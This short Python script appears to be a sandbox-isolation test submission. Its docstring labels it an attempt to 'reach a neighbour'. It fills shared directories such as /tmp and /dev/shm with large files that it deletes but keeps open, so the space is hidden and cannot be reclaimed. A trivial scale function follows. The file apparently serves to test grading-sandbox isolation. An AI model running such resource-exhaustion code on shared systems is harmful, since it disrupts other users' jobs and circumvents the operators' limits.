"""Fills the place of all submissions' files with files that it deletes, and keeps open.
class: reach a neighbour
verdict: error, failed, timeout, memory, crash, blocked
success: sibling
control: shared
"""

import os
import tempfile
import time

PLACES = [os.getcwd(), "/tmp/submission", tempfile.gettempdir(), os.path.dirname(tempfile.gettempdir()), "/tmp", "/dev/shm"]

kept = []
for place in PLACES:
    try:
        for number in range(200):
            file = open(os.path.join(place, f"f{number}"), "wb")
            os.remove(file.name)
            kept.append(file)
            for _ in range(4):
                file.write(bytes(1 << 20))
                file.flush()
    except OSError:
        pass

time.sleep(2)


def scale(x):
    return x
